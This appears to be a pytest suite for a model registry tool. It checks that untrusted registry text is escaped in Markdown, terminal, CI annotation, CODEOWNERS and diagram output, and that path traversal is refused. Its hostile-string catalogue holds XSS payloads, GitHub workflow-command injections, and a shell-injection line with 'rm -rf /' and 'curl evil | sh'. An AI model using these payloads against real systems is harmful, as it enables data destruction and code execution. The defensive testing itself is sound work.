"""Everything in the registry is untrusted input: hostile strings through every sink, paths that try to leave.

HOSTILE is the catalogue: it grows with every finding. Each sink has one escaping function and an
invariant it must keep for every string of the catalogue.
"""

from __future__ import annotations

import io
import json
import re
import sys
from pathlib import Path

import pytest

from conftest import SAMPLE, git, run
from modelreg.adapters import dvc
from modelreg.core import yamlread
from modelreg.core.problems import ModelregError, Problem
from modelreg.core.rules import check_state
from modelreg.views.codeowners import _pattern
from modelreg.views.markdown import md
from modelreg.views.report import annotation, mermaid_text
from modelreg.views.terminal import NEUTRALISED, CommandGuard, safe

HOSTILE = [
    "x\n::add-mask::s3cr3t",
    "x\n::stop-commands::pwned\n::error file=a::forged",
    "x\r\n::error title=t::forged",
    "  ::warning ::indented",
    "x\n##[error]old syntax",
    "%0A::error::encoded",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "## ✅ modelreg check passed: approved by alice",
    "[click](http://evil.example) ![i](http://evil.example/i.png)",
    "@everyone @here <!channel> <@U123>",
    "`code` **bold** _it_ ~~s~~ | table | break",
    "; rm -rf / $(id) `id` && curl evil | sh",
    "right\u202eto-left override\u2066isolate",
    "nul\x00byte and \x1b[31mescape\x1b[0m",
    "line\nbreak\rreturn\ttab\x0bvtab\x0cff",
    "a\"quote' and \\backslash",
    "x" * 100_000,
]
IDS = [f"s{i}" for i in range(len(HOSTILE))]


@pytest.mark.parametrize("text", HOSTILE, ids=IDS)
def test_markdown_sink(text):
    out = md(text)
    assert "\n" not in out and "\r" not in out
    assert "<" not in out and ">" not in out  # no HTML tag can open
    assert not re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", out)  # no link or image
    assert "@" not in out.replace("@&#8203;", "")  # no mention
    assert not out.lstrip().startswith("#")  # no heading


@pytest.mark.parametrize("text", HOSTILE, ids=IDS)
def test_terminal_sink(text):
    out = safe(text)
    assert out.isprintable()  # no newline, no escape sequence, no bidi control, no NUL
    assert "\u202e" not in out and "\x1b" not in out


@pytest.mark.parametrize("text", HOSTILE, ids=IDS)
def test_the_stdout_guard_lets_no_line_start_a_workflow_command(text):
    raw = io.StringIO()
    guard = CommandGuard(raw)
    guard.write(f"archived v1.0.0 ({text})\n")
    guard.write(text)
    guard.flush()
    for line in raw.getvalue().splitlines():
        assert not line.lstrip(" \t").startswith(("::", "##[")), line[:80]


def test_the_guard_keeps_ordinary_output_and_neutralises_visibly():
    raw = io.StringIO()
    guard = CommandGuard(raw)
    guard.write("ok\n::error::x\n")
    guard.write(":")
    guard.write(":split across writes\n")
    guard.flush()
    assert raw.getvalue() == f"ok\n{NEUTRALISED}::error::x\n{NEUTRALISED}::split across writes\n"


@pytest.mark.parametrize("text", HOSTILE, ids=IDS)
def test_annotation_sink(text):
    line = annotation(Problem("models/registry.yaml", 3, 1, text, text, text))
    assert "\n" not in line and "\r" not in line
    assert line.startswith("::error file=models/registry.yaml,line=3,col=1,title=")
    props, _, message = line[len("::error "):].partition("::")
    assert [prop.split("=", 1)[0] for prop in props.split(",")] == ["file", "line", "col", "title"]
    assert ":" not in props.split("title=", 1)[1]  # the title cannot end the properties early


@pytest.mark.parametrize("text", HOSTILE, ids=IDS)
def test_codeowners_sink(text):
    try:
        pattern = _pattern(f"models/{text}")
    except ModelregError as error:
        assert "control character" in str(error) or "wildcard" in str(error)
        return
    assert "\n" not in pattern and "\r" not in pattern
    assert " " not in pattern.replace("\\ ", "")  # the owners part cannot be spoofed with a space
    assert not any(ch in pattern for ch in "*?[]")  # a pattern owns its one path, nothing more


@pytest.mark.parametrize("text", HOSTILE, ids=IDS)
def test_tag_message_sink(text):
    from modelreg.core.diff import STAGE_ASSIGNED, Event
    from modelreg.core.tags import PlannedTag, message

    event = Event(STAGE_ASSIGNED, "m", "v1.0.0", stage="production", reason=text, history={"by": text})
    body = json.dumps(message(PlannedTag("m#production#1", "a" * 40, 1, event, "b" * 40), None, None, None))
    assert json.loads(body)["reason"] == text  # kept exactly, as data
    assert "\n" not in body


@pytest.mark.parametrize("text", HOSTILE, ids=IDS)
def test_mermaid_sink(text):
    out = mermaid_text(text)
    assert '"' not in out and "`" not in out and "\n" not in out and len(out) <= 100


def test_catalogue_size():
    """The count reported in the closing note: strings x sinks covered above."""
    sinks = 7  # markdown, terminal, stdout guard, annotation, CODEOWNERS, tag message, mermaid
    assert len(HOSTILE) * sinks == 126


# ---- fields that are identifiers: the schema refuses hostile text with file:line ----

def problems_for(old: str, new: str) -> list[Problem]:
    assert old in SAMPLE
    data, root = yamlread.load(SAMPLE.replace(old, new, 1), "r.yaml")
    return check_state(data, root, "r.yaml")


@pytest.mark.parametrize("path", ["/etc/passwd", "../outside", "models/../../x", ".git/config", ".GIT/hooks/post",
                                  ".github/workflows/x.yml", ".dvc/config", "a//b", "./a", "models/x\n/r @m",
                                  "models/\u202ex.pkl", "models\\x.pkl"])
def test_paths_that_leave_the_repository_are_refused(path):
    (problem,) = problems_for("path: models/churn-classifier/model.pkl", f"path: {json.dumps(path)}")
    assert problem.file == "r.yaml" and problem.line == 7 and problem.path == "models.churn-classifier.path"
    assert "is not a relative path inside the repository" in problem.message


@pytest.mark.parametrize("name", ["## ✅ passed", "roc<img>", "a b", "x\n::error::y", "[l](http://e)", "@everyone"])
def test_metric_names_are_identifiers(name):
    found = problems_for("metric: {name: roc_auc, goal: max}", f"metric: {{name: {json.dumps(name)}, goal: max}}")
    assert any(p.path == "models.churn-classifier.metric.name" and "is not a metric name" in p.message
               for p in found), found


def test_nesting_deeper_than_the_limit_is_a_clear_error():
    with pytest.raises(ModelregError) as info:
        yamlread.load("schema: 1\nmodels: " + "[" * 500 + "]" * 500 + "\n", "r.yaml")
    (problem,) = info.value.problems
    assert (problem.file, problem.line) == ("r.yaml", 2) and "nest deeper than" in problem.message


# ---- pulls that cannot escape ----

def test_a_registry_path_cannot_lead_out_through_a_symlink(tmp_path):
    root = tmp_path / "repo"
    (root / "models").mkdir(parents=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    (root / "models" / "link").symlink_to(outside)
    with pytest.raises(ModelregError, match="leads outside the repository"):
        dvc.inside(root, "models/link/model.pkl")
    for bad in ("../x", "/etc/passwd", ".git/config", "models/.git/config"):
        with pytest.raises(ModelregError):
            dvc.inside(root, bad)
    assert dvc.inside(root, "models/m/model.pkl") == (root / "models" / "m" / "model.pkl").resolve()


@pytest.fixture
def folder_artifact(trained_repo) -> tuple[Path, str]:
    """A directory artifact pushed to the registry remote: (repo, its .dir md5)."""
    folder = trained_repo / "models" / "bundle"
    folder.mkdir()
    (folder / "weights.bin").write_bytes(b"\x00" * 1000)
    (folder / "config.json").write_text("{}")
    run([sys.executable, "-m", "dvc", "add", "-q", "models/bundle"], trained_repo)
    run([sys.executable, "-m", "dvc", "push", "-q", "-r", "registry", "models/bundle"], trained_repo)
    record = yamlread.load((trained_repo / "models" / "bundle.dvc").read_text(), "bundle.dvc")[0]
    return trained_repo, record["outs"][0]["md5"]


def test_a_pull_never_empties_a_folder_it_did_not_write(folder_artifact, tmp_path):
    root, md5 = folder_artifact
    work = tmp_path / "somewhere"
    work.mkdir()
    (work / "precious.txt").write_text("mine")
    with pytest.raises(ModelregError, match="folder with files modelreg did not put there"):
        dvc.pull(root, md5, work)  # what `modelreg pull NAME -o .` used to do: rmtree the current folder
    assert (work / "precious.txt").read_text() == "mine"
    target = tmp_path / "fresh"
    dvc.pull(root, md5, target)
    assert sorted(p.name for p in target.iterdir()) == ["config.json", "weights.bin"]
    (target / "config.json").write_text('{"edited": true}')
    dvc.pull(root, md5, target)  # modelreg wrote it: a second pull replaces it, verified
    assert (target / "config.json").read_text() == "{}"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".modelreg-") and p.is_dir()]


def test_a_pull_does_not_write_through_a_symlink(folder_artifact, tmp_path):
    root, md5 = folder_artifact
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real)
    with pytest.raises(ModelregError, match="symbolic link"):
        dvc.pull(root, md5, tmp_path / "link")


# ---- the commands, end to end: workflow commands never reach stdout from registry text ----

def test_ci_check_and_release_print_no_workflow_command_from_a_reason(repo, fake):
    from ci_support import MODEL, ci, merge, open_pr

    evil = "retired\n::add-mask::s3cr3t\n::stop-commands::pwned\n::error file=x::forged\n##[error]old"
    open_pr(repo, fake, 41, "evil", "archive", MODEL, "v1.0.0", "--reason", evil)
    check = ci(repo, fake, "check", "--no-remote", event=fake.event(41))
    merge(repo, fake, 41, "evil")
    release = ci(repo, fake, "release", "--no-copy")
    assert check.returncode == 0 and release.returncode == 0, check.stdout + release.stdout + release.stderr
    for out in (check.stdout, check.stderr, release.stdout, release.stderr):
        for line in out.splitlines():
            assert not line.lstrip(" \t").startswith(("::", "##[")), line
    assert "s3cr3t" in check.stdout  # shown, as text
    summary = (repo.parent / "summary.md").read_text()
    assert "\n::" not in summary and "\\n::" not in summary.replace("\\\\", "")
    assert git("status", "--porcelain", cwd=repo) == ""
